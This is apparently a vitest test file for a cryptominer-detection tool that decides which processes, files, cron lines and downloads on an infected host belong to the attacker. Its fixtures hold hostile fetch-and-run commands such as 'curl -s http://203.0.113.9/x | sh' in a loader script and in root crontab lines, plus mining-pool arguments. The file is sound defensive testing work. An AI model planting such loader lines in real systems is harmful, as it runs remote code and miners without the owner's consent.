import { describe, expect, it } from 'vitest';
import { labContext, POOL } from '../../../test/shared/infected-snapshot.ts';
import {
  cleanSnapshot,
  crontab,
  elf,
  file,
  hashOf,
  process,
  socket,
} from '../../../test/shared/snapshots.ts';
import type { Written } from '../../../test/shared/written.ts';
import type { Snapshot } from '../../snapshot.ts';
import type { JudgeContext } from '../index.ts';
import { judge } from '../index.ts';

const MINING = ['-o', 'stratum+tcp://198.51.100.7:3333'];

/** A confirmed miner, pid 900, among the clean host's programs. */
function host(
  miner: Omit<Parameters<typeof process>[0], 'pid'>,
  more: Written<Partial<Snapshot>> = {},
): Snapshot {
  const clean = cleanSnapshot();
  return cleanSnapshot({
    ...more,
    processes: [
      ...clean.processes,
      process({ pid: 900, argv: [miner.exe, ...MINING], ...miner }),
      ...(more.processes ?? []),
    ],
    sockets: [...clean.sockets, socket([900], POOL, 3333), ...(more.sockets ?? [])],
  });
}
const root = (...lines: string[]) => [crontab('/var/spool/cron/crontabs/root', lines)];
const ticked = (snapshot: Snapshot, context: JudgeContext = labContext) => {
  const { processes, files, cronLines, downloads } = judge(snapshot, context).links;
  return {
    processes: processes.filter((p) => p.selected).map((p) => p.pid),
    files: files.filter((f) => f.selected).map((f) => f.path),
    lines: cronLines.filter((c) => c.selected).map((c) => c.number),
    downloads: downloads.filter((d) => d.selected).map((d) => d.host),
  };
};
const image = elf('/tmp/m', 'mining.subscribe mining.authorize');
const miner = { exe: '/tmp/m' };

describe('what the attacker borrows of the company is not his', () => {
  it('a server of its own networks, in his script: the company’s line and the address stay', () => {
    const loader = file(
      '/tmp/i.sh',
      '#!/bin/sh\n/tmp/m &\ncurl -s http://192.0.2.80/deploy.sh | sh\ncurl -s http://203.0.113.9/x | sh\n',
    );
    const cronFiles = root('@daily sh /tmp/i.sh', '*/5 * * * * curl -fsSL http://192.0.2.80/deploy.sh | sh');
    expect(ticked(host(miner, { files: [image, loader], cronFiles }))).toMatchObject({
      lines: [1],
      downloads: ['203.0.113.9'],
    });
  });

  it('a server that the operator lists', () => {
    const loader = file('/tmp/i.sh', '#!/bin/sh\n/tmp/m &\ncurl -s http://198.51.100.80/deploy.sh | sh\n');
    const cronFiles = root('@daily sh /tmp/i.sh', '@hourly curl -fsSL http://198.51.100.80/deploy.sh | sh');
    const snapshot = host(miner, { files: [image, loader], cronFiles });
    const ownAddresses = ['198.51.100.80'];
    expect(ticked(snapshot, { ...labContext, ownAddresses })).toMatchObject({ lines: [1], downloads: [] });
  });

  it('a mirror from which somebody downloads at the moment', () => {
    const loader = file('/tmp/.x/i.sh', '#!/bin/sh\n/tmp/m &\ncurl -s https://mirror.example/x.sh | sh\n');
    const download = process({
      pid: 801,
      exe: '/usr/bin/curl',
      argv: ['curl', '-O', 'https://mirror.example/big.iso'],
    });
    const cronFiles = root('* * * * * pgrep -f /tmp/m || sh /tmp/.x/i.sh');
    expect(
      ticked(host(miner, { processes: [download], files: [image, loader], cronFiles })).processes,
    ).toEqual([900]);
  });

  it.each(['/system.slice/docker-abc.scope', '/system.slice/x.service'])(
    'the path of its program, in another root (%s): neither file, process nor cron line of it',
    (cgroup) => {
      const other = { device: '77', inode: '5', package: null, sha256: hashOf('the miner') };
      const snapshot = host(
        { exe: '/opt/shop/sync', cgroup, image: other },
        {
          processes: [process({ pid: 701, exe: '/opt/shop/sync' })],
          files: [elf('/opt/shop/sync')],
          cronFiles: root('*/5 * * * * /opt/shop/sync --all'),
        },
      );
      expect(ticked(snapshot)).toEqual({ processes: [900], files: [], lines: [], downloads: [] });
    },
  );

  it('the name of its script among his arguments: not what starts it, also where it starts something', () => {
    const python = { exe: '/usr/bin/python3.11' };
    const argv = ['python3', '/srv/app/app.py'];
    const app = file(
      '/srv/app/app.py',
      '#!/usr/bin/env python3\nimport os\nos.system("/opt/shop/convert x")\n',
    );
    const snapshot = host(
      { ...python, argv: [...argv, ...MINING] },
      {
        processes: [process({ pid: 700, ...python, argv })],
        files: [app],
        cronFiles: root('@reboot python3 /srv/app/app.py'),
      },
    );
    expect(ticked(snapshot)).toEqual({ processes: [900], files: [], lines: [], downloads: [] });
  });

  it('a line of its crontab, by a PATH above it: the line starts the company’s own program too', () => {
    const snapshot = host(
      { exe: '/tmp/.x/backup' },
      {
        files: [elf('/tmp/.x/backup', 'mining.subscribe'), elf('/usr/local/bin/backup')],
        cronFiles: root('PATH=/tmp/.x:/usr/local/bin:/usr/bin', '0 2 * * * backup --all', '@daily x'),
      },
    );
    expect(ticked(snapshot)).toMatchObject({ files: ['/tmp/.x/backup'], lines: [] });
    const alone = { ...snapshot, files: [elf('/tmp/.x/backup', 'mining.subscribe')] };
    expect(ticked(alone)).toMatchObject({ lines: [2] });
  });

  it('a running backup to whose line he added: the shell that has it at work stays', () => {
    const command = 'tar czf /backup/x.tgz /srv & /tmp/m';
    const shell = process({ pid: 880, ppid: 300, exe: '/usr/bin/dash', argv: ['/bin/sh', '-c', command] });
    const tar = process({ pid: 881, ppid: 880, exe: '/usr/bin/tar', argv: ['tar', 'czf', '/backup/x.tgz'] });
    const of = (...processes: ReturnType<typeof process>[]) =>
      judge(
        host(
          { exe: '/tmp/m', ppid: 880 },
          { processes, files: [image], cronFiles: root(`0 3 * * * ${command}`) },
        ),
        labContext,
      ).links;
    const selected = (links: ReturnType<typeof of>) =>
      links.processes.filter((p) => p.selected).map((p) => p.pid);
    expect(selected(of(shell, tar))).toEqual([900]);
    expect(of(shell, tar).covered).toEqual([]);
    expect(selected(of(shell))).toEqual([880, 900]);
  });

  it('data that a line of its gets from a bare address and gives to a program: nothing of it is a starter', () => {
    const json = `python3 -c 'import json,sys; print(json.load(sys.stdin)["usd"])' > /srv/rates`;
    const cronFiles = root(`*/5 * * * * curl -s http://203.0.113.77/rates.json | ${json}`);
    expect(judge(host(miner, { files: [image], cronFiles }), labContext).links.cronLines).toEqual([]);
  });
});

it('a chain of thousands of parents is weighed like any other', () => {
  const clean = cleanSnapshot();
  const chain = Array.from({ length: 12_000 }, (_, i) =>
    process({ pid: 10_000 + i, ppid: i < 11_999 ? 10_001 + i : 1, exe: `/opt/x/${i}` }),
  );
  expect(
    judge(cleanSnapshot({ processes: [...clean.processes, ...chain] }), labContext).verdict.verdict,
  ).toBe('not-a-miner');
});
